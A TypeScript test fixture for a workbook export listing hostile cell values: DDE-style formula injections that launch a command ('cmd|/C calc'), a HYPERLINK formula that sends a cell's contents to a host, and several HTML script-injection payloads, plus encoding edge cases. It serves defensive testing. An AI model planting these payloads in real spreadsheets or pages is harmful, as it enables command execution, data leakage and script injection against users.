import type { CellValue } from './workbook';

/** A title that a spreadsheet program could take for a formula, and a browser for a picture. */
const hostileTitle = '=1+1<img src=x onerror=alert(1)>';

/** The titles of the hostile sheet. */
export const titles = ['type', 'number', 'expected_name', hostileTitle];

/** Rows whose author means harm, or whose cells are easily damaged; the last cell is what matters. */
export const hostileRows: readonly CellValue[][] = [
	['till', '057318', 'Mercy Nafula Wekesa', '007'],
	['paybill', '090010', '', '=HYPERLINK("http://127.0.0.1/?"&A1,"free money")'],
	['till', '4738534', '=1+1', '+1+cmd|"/C calc"!A0'],
	['till', '5031264', '<script>alert(1)</script>', "-2+3+cmd|' /C calc'!A0"],
	['paybill', '900010', '"><img src=x onerror=alert(1)>', '@SUM(1+1)*cmd'],
	['till', '392860', '&lt;b&gt;Savannah', '\t=1+1'],
	['till', '</td><script>alert(2)</script>', '', 'two\nlines'],
	['<svg onload=alert(3)>', '4738534', '', '  spaces around  '],
	['till', '900103', "' onmouseover='alert(4)", '＝1+1'],
	['till', '5999991', 'Ng’ang’a 😀 عربي', '-5'],
];

/** The most characters that a spreadsheet program takes in one cell. */
const longestCell = 32_767;

/** Cells that only a CSV file can bring, and what must stand in the workbook. */
export const rawCells: ReadonlyArray<{ cell: string; kept: string }> = [
	{ cell: 'bell \u0007, form feed \f', kept: 'bell \u0007, form feed \f' },
	{ cell: 'one\rtwo', kept: 'one\rtwo' },
	// To a spreadsheet program, _x0041_ is a way to write A.
	{ cell: 'no letter: _x0041_', kept: 'no letter: _x0041_' },
	// Cut in the middle of a character of two halves.
	{ cell: `${'x'.repeat(longestCell - 1)}😀`, kept: `${'x'.repeat(longestCell - 1)}\ufffd` },
];
